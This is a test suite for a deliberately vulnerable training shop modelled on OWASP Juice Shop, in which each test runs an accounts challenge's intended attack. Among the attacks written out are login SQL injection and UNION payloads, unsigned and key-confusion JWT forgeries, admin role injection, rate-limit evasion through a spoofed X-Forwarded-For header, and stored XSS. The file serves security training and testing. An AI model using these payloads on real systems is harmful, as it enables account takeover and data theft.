import { SignJWT } from 'jose';
import { generate } from 'otplib';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { md5 } from '../../src/server/security/hashing';
import { IFRAME, startShop, type TestServer } from '../helpers';
import { bearer, decode, loginAt, post } from './accounts-helpers';

/** Every accounts challenge solved by its genuine attack over HTTP. */

// nearly every test solves a challenge (and logins solve others as a side effect), so each test gets a shop of its own
let s: TestServer;
beforeEach(async () => {
  s = await startShop();
});
afterEach(async () => s.close());

const solved = (key: string) => s.shop.challenges.isSolved(key);

/** Runs the attack and checks that it (and only it) flips the challenge. */
async function expectSolves(key: string, attack: () => Promise<unknown>, server = s) {
  expect(server.shop.challenges.isSolved(key), `${key} solved before the attack`).toBe(false);
  await attack();
  expect(server.shop.challenges.isSolved(key), `${key} after the attack`).toBe(true);
}

const login = (email: string, password: string, server = s) => loginAt(server, email, password);

describe('login SQL injection', () => {
  test.each([
    ['loginAdminChallenge', "' or 1=1--", 1],
    ['loginJimChallenge', "jim@juice-sh.op'--", 2],
    ['loginBenderChallenge', "bender@juice-sh.op'--", 3],
    ['ghostLoginChallenge', "chris.pike@juice-sh.op'--", 14],
  ])('%s: logging in as %s without the password', async (key, email, id) => {
    await expectSolves(key, async () => {
      const r = await login(email, 'whatever');
      expect(r.status).toBe(200);
      expect(decode(r.body.authentication.token).data.id).toBe(id);
    });
  });

  test('the login challenges look only at whom the login ends up as (as upstream)', async () => {
    const fresh = await startShop();
    try {
      expect((await login('jim@juice-sh.op', 'ncc-1701', fresh)).status).toBe(200);
      expect(fresh.shop.challenges.isSolved('loginJimChallenge')).toBe(true);
      expect(fresh.shop.challenges.isSolved('loginAdminChallenge')).toBe(false);
    } finally {
      await fresh.close();
    }
  });

  test('ephemeralAccountantChallenge: a UNION fabricates a user that does not exist', async () => {
    const email =
      "' UNION SELECT * FROM (SELECT 15 as 'id', '' as 'username', 'acc0unt4nt@juice-sh.op' as 'email', '12345' as 'password', 'accounting' as 'role', " +
      "'123' as 'deluxeToken', '1.2.3.4' as 'lastLoginIp', '/assets/public/images/uploads/default.svg' as 'profileImage', '' as 'totpSecret', 1 as 'isActive', " +
      "'1999-08-16 14:14:41.644 +00:00' as 'createdAt', '1999-08-16 14:33:41.930 +00:00' as 'updatedAt', null as 'deletedAt')--";
    await expectSolves('ephemeralAccountantChallenge', async () => {
      const r = await login(email, 'x');
      expect(r.status).toBe(200);
      expect(r.body.authentication.umail).toBe('acc0unt4nt@juice-sh.op');
      expect(decode(r.body.authentication.token).data.role).toBe('accounting');
    });
  });

  test('a broken injection answers 500 and the shop keeps answering', async () => {
    const r = await login("'", 'x');
    expect(r.status).toBe(500);
    expect((await login('admin@juice-sh.op', 'admin123')).status).toBe(200);
  });
});

describe('logins with leaked or guessable credentials', () => {
  test.each([
    ['weakPasswordChallenge', 'admin@juice-sh.op', 'admin123'],
    ['loginSupportChallenge', 'support@juice-sh.op', 'J6aVjTgOpRs@?5l!Zkq2AYnCE@RF$P'],
    ['loginRapperChallenge', 'mc.safesearch@juice-sh.op', 'Mr. N00dles'],
    ['loginAmyChallenge', 'amy@juice-sh.op', 'K1f.....................'],
    ['oauthUserPasswordChallenge', 'bjoern.kimminich@gmail.com', 'bW9jLmxpYW1nQGhjaW5pbW1pay5ucmVvamI='],
    ['exposedCredentialsChallenge', 'testing@juice-sh.op', 'IamUsedForTesting'],
    ['dlpPasswordSprayingChallenge', 'J12934@juice-sh.op', '0Y8rMnww$*9VFYE§59-!Fg1L6t&6lB'],
  ])('%s: %s logs in', async (key, email, password) => {
    const fresh = await startShop();
    try {
      expect((await login(email, 'not the password', fresh)).status).toBe(401);
      expect(fresh.shop.challenges.isSolved(key)).toBe(false);
      await expectSolves(key, async () => expect((await login(email, password, fresh)).status).toBe(200), fresh);
    } finally {
      await fresh.close();
    }
  });

  test('the OAuth account password is base64 of the reversed email, as the client computes it', () => {
    const email = 'bjoern.kimminich@gmail.com';
    expect(Buffer.from([...email].reverse().join('')).toString('base64')).toBe('bW9jLmxpYW1nQGhjaW5pbW1pay5ucmVvamI=');
  });
});

describe('registration', () => {
  test('registerAdminChallenge: the role sent by the client is taken', async () => {
    await expectSolves('registerAdminChallenge', async () => {
      const r = await s.json('/api/Users', post({ email: 'boss@evil.io', password: 'boss12', passwordRepeat: 'boss12', role: 'admin' }));
      expect(r.status).toBe(201);
      expect(r.body.data.role).toBe('admin');
      expect(r.body.data.profileImage).toBe('/assets/public/images/uploads/defaultAdmin.png');
    });
    const token = (await login('boss@evil.io', 'boss12')).body.authentication.token;
    expect(decode(token).data.role).toBe('admin');
    expect((await s.json('/rest/user/authentication-details', { headers: bearer(token) })).status).toBe(200);
  });

  test('passwordRepeatChallenge: the server never compares the repeated password', async () => {
    await expectSolves('passwordRepeatChallenge', async () => {
      const r = await s.json('/api/Users', post({ email: 'repeat@evil.io', password: 'one111', passwordRepeat: 'two222' }));
      expect(r.status).toBe(201);
    });
  });

  test('emptyUserRegistration: empty credentials are refused with 400 but the account exists', async () => {
    await expectSolves('emptyUserRegistration', async () => {
      const r = await s.json('/api/Users', post({ email: '', password: '', passwordRepeat: '' }));
      expect(r.status).toBe(400);
    });
    expect((await login('', '')).status).toBe(200);
  });

  test('persistedXssUserChallenge: an email with the iframe payload is stored as sent', async () => {
    const email = `${IFRAME}@evil.io`;
    await expectSolves('persistedXssUserChallenge', async () => {
      const r = await s.json('/api/Users', post({ email, password: 'xss123', passwordRepeat: 'xss123' }));
      expect(r.status).toBe(201);
      expect(r.body.data.email).toBe(email);
    });
  });

  test('with the challenge off (safety mode) the payload is stripped from the email', async () => {
    const safe = await startShop({ configOverrides: { challenges: { safetyMode: 'enabled' } } });
    try {
      const r = await safe.json('/api/Users', post({ email: `${IFRAME}x@evil.io`, password: 'xss123', passwordRepeat: 'xss123' }));
      expect(r.status).toBe(201);
      expect(r.body.data.email).toBe('x@evil.io');
      expect(safe.shop.challenges.isSolved('persistedXssUserChallenge')).toBe(false);
    } finally {
      await safe.close();
    }
  });
});

describe('adminSectionChallenge', () => {
  test('opening the administration page loads its padding image', async () => {
    await expectSolves('adminSectionChallenge', () => s.get('/assets/public/images/padding/19px.png'));
  });
});

describe('password resets with guessed answers', () => {
  test.each([
    ['resetPasswordJimChallenge', 'jim@juice-sh.op', 'Samuel'],
    ['resetPasswordBenderChallenge', 'bender@juice-sh.op', "Stop'n'Drop"],
    ['resetPasswordBjoernChallenge', 'bjoern@juice-sh.op', 'West-2082'],
    ['resetPasswordBjoernOwaspChallenge', 'bjoern@owasp.org', 'Zaya'],
    ['resetPasswordUvoginChallenge', 'uvogin@juice-sh.op', 'Silence of the Lambs'],
    ['geoStalkingMetaChallenge', 'john@juice-sh.op', 'Daniel Boone National Forest'],
    ['geoStalkingVisualChallenge', 'emma@juice-sh.op', 'ITsec'],
  ])('%s: %s reset with %s', async (key, email, answer) => {
    await expectSolves(key, async () => {
      const r = await s.json('/rest/user/reset-password', post({ email, answer, new: 'pwned1', repeat: 'pwned1' }));
      expect(r.status).toBe(200);
    });
    expect((await login(email, 'pwned1')).status).toBe(200);
  });

  test('resetPasswordMortyChallenge: the limit holds per address, and a spoofed X-Forwarded-For resets it', async () => {
    const fresh = await startShop();
    try {
      const reset = (answer: string, headers: Record<string, string> = {}) =>
        fresh.json('/rest/user/reset-password', post({ email: 'morty@juice-sh.op', answer, new: 'pwned1', repeat: 'pwned1' }, headers));
      // from one address the 101st attempt within five minutes is refused
      for (let i = 0; i < 100; i++) expect((await reset(`guess${i}`)).status).toBe(401);
      const limited = await reset('5N0wb41L');
      expect(limited.status).toBe(429);
      expect(limited.body.message).toBeTruthy();
      expect(fresh.shop.challenges.isSolved('resetPasswordMortyChallenge')).toBe(false);
      // the brute force: far beyond 100 guesses, a new "client address" every 50
      const candidates = [...Array.from({ length: 150 }, (_, i) => `snuffles${i}`), '5N0wb41L'];
      await expectSolves(
        'resetPasswordMortyChallenge',
        async () => {
          for (const [i, answer] of candidates.entries()) {
            const r = await reset(answer, { 'X-Forwarded-For': `10.0.${Math.floor(i / 50)}.1` });
            expect(r.status).toBe(answer === '5N0wb41L' ? 200 : 401);
          }
        },
        fresh,
      );
    } finally {
      await fresh.close();
    }
  });
});

describe('changePasswordBenderChallenge', () => {
  test("Bender's password changes without the current one through the GET", async () => {
    const token = (await login("bender@juice-sh.op'--", 'x')).body.authentication.token;
    const change = (q: string) => s.json(`/rest/user/change-password?${q}`, { headers: bearer(token) });
    // with a current password that is wrong the check still works
    expect((await change('current=wrong&new=slurmCl4ssic&repeat=slurmCl4ssic')).status).toBe(401);
    await expectSolves('changePasswordBenderChallenge', async () =>
      expect((await change('new=slurmCl4ssic&repeat=slurmCl4ssic')).status).toBe(200),
    );
    expect((await login('bender@juice-sh.op', 'slurmCl4ssic')).status).toBe(200);
  });
});

describe('twoFactorAuthUnsafeSecretStorageChallenge', () => {
  test('the TOTP secret leaks through the login injection and completes the second factor', async () => {
    // a UNION row that carries wurstbrot's secret in the username column (and none in totpSecret) logs in…
    const leak = await login(
      "nobody' UNION SELECT 999, totpSecret, email, password, 'customer', '', '', '', '', 1, '', '', NULL FROM Users WHERE email = 'wurstbrot@juice-sh.op'--",
      'x',
    );
    expect(leak.status).toBe(200);
    // …and the token it answers carries the row
    const secret = decode(leak.body.authentication.token).data.username;
    expect(secret).toBe('IFTXE3SPOEYVURT2MRYGI52TKJ4HC3KH');
    const pending = await login("wurstbrot@juice-sh.op'--", 'x');
    expect(pending.status).toBe(401);
    await expectSolves('twoFactorAuthUnsafeSecretStorageChallenge', async () => {
      const r = await s.json('/rest/2fa/verify', post({ tmpToken: pending.body.data.tmpToken, totpToken: await generate({ secret }) }));
      expect(r.status).toBe(200);
      expect(r.body.authentication.umail).toBe('wurstbrot@juice-sh.op');
    });
  });
});

describe('JWT verification holes', () => {
  const base64url = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
  const now = () => Math.floor(Date.now() / 1000);

  test('jwtUnsignedChallenge: an alg none token for jwtn3d passes', async () => {
    const token = `${base64url({ typ: 'JWT', alg: 'none' })}.${base64url({ status: 'success', data: { id: 1, email: 'jwtn3d@juice-sh.op', role: 'admin' }, iat: now() })}.`;
    await expectSolves('jwtUnsignedChallenge', async () => {
      const r = await s.json('/api/Users', { headers: bearer(token) });
      expect(r.status).toBe(200);
    });
  });

  test('an unsigned token for anybody else is accepted too but solves nothing; an expired one is refused', async () => {
    const fresh = await startShop();
    try {
      const token = `${base64url({ alg: 'none' })}.${base64url({ data: { id: 2, email: 'someone@juice-sh.op', role: 'customer' } })}.`;
      expect((await fresh.json('/api/Users', { headers: bearer(token) })).status).toBe(200);
      expect(fresh.shop.challenges.isSolved('jwtUnsignedChallenge')).toBe(false);
      const expired = `${base64url({ alg: 'none' })}.${base64url({ data: { id: 2, email: 'jwtn3d@juice-sh.op' }, exp: now() - 60 })}.`;
      expect((await fresh.json('/api/Users', { headers: bearer(expired) })).status).toBe(401);
      expect(fresh.shop.challenges.isSolved('jwtUnsignedChallenge')).toBe(false);
    } finally {
      await fresh.close();
    }
  });

  test('jwtForgedChallenge: HS256 signed with the published public key passes', async () => {
    const pem = await (await s.get('/encryptionkeys/jwt.pub')).text();
    const token = await new SignJWT({ status: 'success', data: { id: 1, email: 'rsa_lord@juice-sh.op', role: 'admin' } })
      .setProtectedHeader({ alg: 'HS256', typ: 'JWT' })
      .setIssuedAt()
      .sign(new TextEncoder().encode(pem));
    const other = await new SignJWT({ data: { email: 'rsa_lord@juice-sh.op' } })
      .setProtectedHeader({ alg: 'HS256' })
      .sign(new TextEncoder().encode('another secret'));
    expect((await s.json('/rest/user/whoami', { headers: bearer(other) })).body).toEqual({ user: {} });
    expect(solved('jwtForgedChallenge')).toBe(false);
    await expectSolves('jwtForgedChallenge', async () => {
      const r = await s.json('/rest/user/whoami', { headers: bearer(token) });
      expect(r.body.user.email).toBe('rsa_lord@juice-sh.op');
    });
  });
});

describe('whoami leaks', () => {
  test('passwordHashLeakChallenge: fields= returns any property of the session user', async () => {
    const token = (await login('mc.safesearch@juice-sh.op', 'Mr. N00dles')).body.authentication.token;
    const plain = await s.json('/rest/user/whoami', { headers: { Cookie: `token=${token}` } });
    expect(plain.body.user.password).toBeUndefined();
    expect(solved('passwordHashLeakChallenge')).toBe(false);
    await expectSolves('passwordHashLeakChallenge', async () => {
      const r = await s.json('/rest/user/whoami?fields=id,email,password', { headers: { Cookie: `token=${token}` } });
      expect(r.body.user).toEqual({ id: 8, email: 'mc.safesearch@juice-sh.op', password: md5('Mr. N00dles') });
    });
  });

  test('emailLeakChallenge: whoami answers JSONP with a callback', async () => {
    const token = (await login('mc.safesearch@juice-sh.op', 'Mr. N00dles')).body.authentication.token;
    await expectSolves('emailLeakChallenge', async () => {
      const r = await s.get('/rest/user/whoami?callback=leak', { headers: { Cookie: `token=${token}` } });
      expect(r.headers.get('content-type')).toContain('javascript');
      expect(await r.text()).toBe(
        `/**/ typeof leak === 'function' && leak({"user":{"id":8,"email":"mc.safesearch@juice-sh.op","lastLoginIp":"0.0.0.0","profileImage":"assets/public/images/uploads/default.svg"}});`,
      );
    });
  });
});

describe('httpHeaderXssChallenge', () => {
  test('True-Client-IP carrying the iframe payload becomes the stored login IP', async () => {
    const token = (await login('amy@juice-sh.op', 'K1f.....................')).body.authentication.token;
    await expectSolves('httpHeaderXssChallenge', async () => {
      const r = await s.json('/rest/saveLoginIp', { headers: { ...bearer(token), 'True-Client-IP': IFRAME } });
      expect(r.status).toBe(200);
      expect(r.body.lastLoginIp).toBe(IFRAME);
    });
  });
});
